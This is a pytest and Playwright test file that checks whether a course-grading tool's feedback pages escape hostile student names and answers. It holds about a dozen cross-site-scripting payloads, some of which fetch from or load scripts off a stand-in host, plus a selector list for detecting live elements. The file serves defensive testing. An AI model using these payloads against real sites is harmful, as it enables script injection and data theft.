"""Hostile names and answers on a feedback page, in a real browser: shown, and dead."""

from __future__ import annotations

import zipfile
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Dialog, Page

from classroom import Classroom
from coursepack.grading import grade
from support import write_log

LISTENER = "http://listener.invalid/"
RUN = f"window.ran = 1; fetch('{LISTENER}'); alert(1)"
HOSTILE = (
    f"<script>{RUN}</script>",
    f'"><script src="{LISTENER}x.js"></script>',
    f'<img src=x onerror="{RUN}">',
    f"<img src={LISTENER}x.png>",
    f'<svg onload="{RUN}"><a href="javascript:{RUN}">x</a></svg>',
    f'<iframe srcdoc="<script>parent.ran = 1</script>" src="{LISTENER}"></iframe>',
    f'<body onload="{RUN}"><details open ontoggle="{RUN}"><input autofocus onfocus="{RUN}">',
    f'</title></style></head><script>{RUN}</script><style>@import "{LISTENER}x.css"; * {{ display: none }}',
    f'<meta http-equiv="refresh" content="0;url={LISTENER}"><base href="{LISTENER}">',
    f'<link rel=stylesheet href="{LISTENER}x.css"><form action="{LISTENER}"><button>go</button></form>',
    f"<!--><img src=x onerror={RUN}>--><![CDATA[<script>{RUN}</script>]]>",
    f"[x](javascript:{RUN}) ![x]({LISTENER}x.png) <{LISTENER}>",
    "{{ 7 * 7 }} {% raw %} <!-- exercises -->",
)
LIVING = (
    "script, img, svg, iframe, object, embed, form, input, button, base, link, details, [onerror], [onload]"
)
LIVING += ", [onclick], [src], [srcdoc], [style], meta[http-equiv=refresh], a:not([href^='#'])"


@pytest.fixture(name="pages")
def _pages(classroom: Classroom, tmp_path: Path) -> list[Path]:
    """Return one page for each hostile text: as the student's name, as every typed answer, as an exercise's id."""
    place = tmp_path / "class.zip"
    with zipfile.ZipFile(place, "w") as archive:
        for number, text in enumerate(HOSTILE):
            answers = dict.fromkeys(("small-short", "small-choice", "small-number", text), text)
            log = write_log(
                tmp_path / "log.jsonl", classroom.course, {**answers, "small-match": {text: text}}
            )
            archive.write(log, f"{text.replace('/', chr(0x2215))}_{number}_assignsubmission_file_x.jsonl")
    grade(classroom.course, place, classroom.out)
    pages = sorted((classroom.out / "feedback").iterdir())
    assert len(pages) == len(HOSTILE)
    return pages


def living(page: Page) -> list[str]:
    """Return what on a page could act, and what did."""
    found: list[str] = page.eval_on_selector_all(LIVING, "all => all.map(one => one.outerHTML.slice(0, 99))")
    return [*found, *(["a script ran"] if page.evaluate("window.ran") else [])]


def note(dialog: Dialog, seen: list[str]) -> None:
    seen.append(f"dialog {dialog.message}")
    dialog.dismiss()


# Without its policy as well: what is escaped is dead even in a reader that knows no policy.
@pytest.mark.parametrize("without_policy", [False, True])
def test_hostile_names_and_answers_are_shown_and_dead(
    browser: Browser, pages: list[Path], *, without_policy: bool
) -> None:
    context = browser.new_context(bypass_csp=without_policy)
    page = context.new_page()
    seen: list[str] = []
    page.on("dialog", lambda dialog: note(dialog, seen))
    page.on("pageerror", lambda error: seen.append(f"error {error}"))
    page.on("popup", lambda popup: seen.append(f"popup {popup.url}"))
    page.on("request", lambda request: seen.append(request.url))
    texts = ""
    for path in pages:
        page.goto(path.as_uri())
        assert living(page) == []
        assert seen == [path.as_uri()]
        assert page.url == path.as_uri()
        assert page.locator("article").count() == 7
        assert page.locator("h1").is_visible()
        texts += page.locator("body").text_content() or ""
        seen.clear()
    context.close()
    for text in HOSTILE:
        assert text in texts


def test_the_watch_of_this_test_sees_what_acts(browser: Browser, tmp_path: Path) -> None:
    (tmp_path / "bad.html").write_text(f"<meta charset=utf-8>{HOSTILE[2]}", encoding="utf-8")
    page = browser.new_page()
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: note(dialog, dialogs))
    page.goto((tmp_path / "bad.html").as_uri())
    page.wait_for_function("window.ran")
    assert "a script ran" in living(page)
    assert len(living(page)) == 2
    assert dialogs == ["dialog 1"]
    page.close()
